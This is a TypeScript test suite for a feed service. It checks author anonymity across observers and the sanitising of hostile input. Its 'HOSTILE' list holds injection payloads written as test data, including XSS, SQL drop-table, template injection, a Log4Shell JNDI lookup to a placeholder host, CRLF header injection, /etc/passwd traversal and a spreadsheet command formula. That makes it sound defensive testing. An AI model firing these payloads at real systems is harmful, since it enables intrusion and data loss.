import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { publicText } from '../../../core/posts/writing-rules';
import { type Person, startTestEnvironment, type TestEnvironment } from '../posts/testing';
import { encryptDetails } from '../profile/account/details-queries';

/** The clock advances at every read, as in production, so that the order of rows is not random. */
let clock = Date.parse('2026-11-20T12:04:56.789Z');
let env: TestEnvironment;
beforeAll(async () => {
  env = await startTestEnvironment({ now: () => new Date(clock++) });
});
afterAll(() => env.close());

const BASE = '/feed-services';
const post = (title: string) => ({
  title,
  content: 'What would you do?',
  community: { type: 'TOPIC', entityId: 7 },
  profileType: 'ANONYMOUS',
  media: [],
  poll: null,
  salaryIds: [],
});
const message = (text: string) => ({ text, profileType: 'ANONYMOUS' });

/** All public responses about a post and its comments, with headers; random names renamed in order of appearance. */
async function observed(
  postId: string,
  comments: readonly string[],
  cookie?: string,
): Promise<{ readonly raw: string; readonly renamed: string }> {
  const paths = [
    `/v1/feed/${postId}`,
    ...['popularity', 'newToOld', 'oldToNew'].map((sort) => `/v1/post/${postId}/comments?sort=${sort}`),
    ...comments.flatMap((id) => [`/v1/comment/${id}`, `/v1/comment/${id}/replies`]),
    '/v2/feed/community/TOPIC/7/posts?sort=newToOld&limit=1',
    '/v3/feed?feedType=PERSONALIZED&sort=LATEST&limit=1',
    `/v1/vote?resourceId=${postId}&resourceType=POST`,
  ];
  const seen: unknown[] = [];
  for (const path of paths) {
    const reply = await env.send({ url: BASE + path, headers: cookie === undefined ? {} : { cookie } });
    const { 'x-request-id': _, date: __, 'server-timing': ___, ...headers } = reply.headers;
    seen.push([path, reply.statusCode, headers, reply.body]);
  }
  const names = new Map<string, string>();
  const raw = JSON.stringify(seen);
  const renamed = raw.replace(/"content-length":"?\d+"?/g, '').replace(/[A-Za-z0-9_-]{22,}/g, (name) => {
    names.set(name, names.get(name) ?? `random ${names.size}`);
    return names.get(name) ?? '';
  });
  return { raw, renamed };
}

/** The same actions with either author: a post, comments, an edit, a reaction, a deletion. */
async function evening(author: Person, colleague: Person): Promise<{ post: string; comments: string[] }> {
  const write = (
    method: 'POST' | 'PUT' | 'PATCH' | 'DELETE',
    path: string,
    body: object | undefined,
    person: Person,
  ) => env.write(method, path, body, person.cookie);
  const id = (await write('POST', '/v2/post', post('Stay or go?'), author)).body.postId;
  await write('PATCH', `/v2/post/${id}`, { title: 'Stay or go now?', content: 'Truly.' }, author);
  const theirs = (await write('POST', `/v1/post/${id}/comment`, message('Stay.'), colleague)).body.commentId;
  const reply = (await write('POST', `/v1/post/comment/${theirs}/reply`, message('Why?'), author)).body
    .commentId;
  const own = (await write('POST', `/v1/post/${id}/comment`, message('I will go.'), author)).body.commentId;
  await write('PATCH', `/v1/comment/${own}`, { text: 'I will go, then.' }, author);
  const gone = (await write('POST', `/v1/post/${id}/comment`, message('Regret'), author)).body.commentId;
  await write('POST', `/v1/post/comment/${gone}/reply`, message('What was it?'), colleague);
  await write('DELETE', `/v1/comment/${gone}`, undefined, author);
  await write('PUT', `/v1/comment/${theirs}/reaction`, { reaction: 'support' }, author);
  await write('POST', `/v1/post/${id}/comment`, message('You idiot'), author);
  await write('POST', '/v1/postview/bulk', { postIds: [id] }, author);
  return { post: id, comments: [theirs, reply, own, gone] };
}

describe('the identity of an author', () => {
  it('[R-010] five kinds of observers see the same responses for either author', async () => {
    const people = await Promise.all(['Anita', 'Chitra', 'Colleague', 'Stranger', 'Reader'].map(env.person));
    const [a, c, colleague, stranger, reader] = people as [Person, Person, Person, Person, Person];
    const { db } = env.services;
    await db
      .updateTable('members')
      .set({
        career_status: 'working',
        details: encryptDetails(env.services, a.memberId, { placeId: 1, experienceYears: 9 }),
      })
      .where('id', '=', a.memberId)
      .execute();
    await db.updateTable('members').set({ is_writer: false }).where('id', '=', reader.memberId).execute();
    const newUser = await env.signIn('Mb6newmJ1Ts6Lf0e');
    let everything = '';
    const cookies = [undefined, stranger.cookie, reader.cookie, newUser, colleague.cookie];
    const views = async ({ post: id, comments }: { post: string; comments: string[] }) => {
      const seen: string[] = [];
      for (const cookie of cookies) {
        const { raw, renamed } = await observed(id, comments, cookie);
        everything += raw;
        seen.push(renamed);
      }
      return seen;
    };
    const first = await evening(a, colleague);
    const seen = await views(first);
    // Removed, so that the second run starts from the same state as the first.
    await db.deleteFrom('posts').where('id', '=', first.post).execute();
    await db
      .updateTable('communities')
      .set({ posts: 0 })
      .where('type', '=', 'TOPIC')
      .where('entity_id', '=', 7)
      .execute();
    const counted = await db
      .selectFrom('communities')
      .select('posts')
      .where('type', '=', 'TOPIC')
      .where('entity_id', '=', 7)
      .executeTakeFirst();
    expect(counted?.posts).toBe(0);
    const second = await evening(c, colleague);
    const strip = (text: string) => text.replace(/\\"posts\\":\d+/g, '');
    expect((await views(second)).map(strip)).toEqual(seen.map(strip));
    expect(everything).not.toMatch(/Regret|idiot/);
    for (const { memberId, aliases } of [a, c])
      for (const secret of [memberId, aliases.ANONYMOUS, aliases.DESIGNATION])
        expect(everything).not.toContain(secret);
  });

  it('[R-010] no seal of written, saved or requested content occurs in two tables', async () => {
    const me = await env.person('Me');
    const { comments } = await evening(me, await env.person('Colleague'));
    const question = await env.post((await env.person('Asker')).aliases.ANONYMOUS, { kind: 'QUESTION' });
    const write = (method: 'POST' | 'PUT', path: string, body: object) =>
      env.write(method, path, body, me.cookie);
    await write('POST', `/v1/post/${question}/request-answer`, { wanted: true });
    await write('POST', `/v1/post/${question}/not-interested`, { wanted: true });
    await write('POST', '/v1/report', {
      resourceId: question,
      resourceType: 'POST',
      reason: 'SPAM',
      note: '',
    });
    const seals = await env.database.pool.query(
      `select 'aliases' as place, owner_seal as seal from aliases where id = any($1)
       union all select 'asks', requester_seal from answer_requests where post_id = $2
       union all select 'unwanted', reader_seal from unwanted_posts where post_id = $2
       union all select 'reports', reporter_seal from reports where resource_id = $2
       union all select 'reactions', reactor_seal from comment_reactions where comment_id = any($3)
       union all select distinct 'keys', owner_seal from idempotency_keys`,
      [Object.values(me.aliases), question, comments],
    );
    const places = new Map<string, Set<string>>();
    for (const { place, seal } of seals.rows) places.set(seal, (places.get(seal) ?? new Set()).add(place));
    expect(seals.rows.length).toBeGreaterThan(12);
    for (const [seal, where] of places) expect([...where], seal).toHaveLength(1);
  });
});

/** Three hundred texts known to break pages, databases or layouts. */
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; drop table posts; --",
  '{{constructor.constructor("alert(1)")()}}',
  '[click](javascript:alert(1))',
  '\u202Egnp.exe\u202C',
  'a\u0301'.repeat(900),
  `Z${'\u0335'.repeat(1900)}`,
  '\u2066\u2067\u2068hidden\u2069',
  '👩‍👩‍👧‍👦'.repeat(60),
  '\uFDFA'.repeat(200),
  'क्षत्रिय '.repeat(150),
  '%00%0d%0aSet-Cookie: a=b',
  '\x24{jndi:ldap://x.example/a}',
  '\\u0000 \\x00 \\0',
  '-1e308 NaN null undefined',
  '../../../../etc/passwd',
  '\u200bx\u200b',
  '   tabs\tand\nlines',
  '=cmd|"/c calc"!A1',
];
const hostile = Array.from({ length: 300 }, (_, index) => {
  const base = HOSTILE[index % HOSTILE.length] ?? '';
  return index < HOSTILE.length ? base : `${base.slice(0, 1900)} ${String.fromCodePoint(0x21 + index * 37)}`;
});

describe('hostile texts', () => {
  it('[R-529] hostile texts are stored as written, without characters that change the text around them, or rejected with the field name', async () => {
    const [author, other] = [await env.person('Author'), await env.person('Other')];
    const id = await env.post(author.aliases.ANONYMOUS);
    for (const text of hostile) {
      const { status, body } = await env.write('POST', `/v1/post/${id}/comment`, message(text), other.cookie);
      if (status === 201) expect(body.text).toBe(publicText(text));
      else expect([400, 422], text).toContain(status);
      if (status !== 201) expect(body.errors?.[0]?.field ?? '/body/text').toBe('/body/text');
    }
    for (const text of hostile.slice(0, HOSTILE.length)) {
      const title = [...text].slice(0, 150).join('');
      const { status, body } = await env.write(
        'POST',
        '/v2/post',
        { ...post(title), content: text, poll: { options: [`${title}`.slice(0, 40) || 'a', 'b'], days: 1 } },
        other.cookie,
      );
      expect([201, 400, 422], title).toContain(status);
      if (status === 201 && body.postId)
        expect((await env.get(`/v1/feed/${body.postId}`, other.cookie)).body.content).toBe(publicText(text));
    }
    for (const text of ['a\0b', 'half \ud83d']) {
      const { status } = await env.write('POST', `/v1/post/${id}/comment`, message(text), other.cookie);
      expect(status).toBe(400);
    }
  });
});
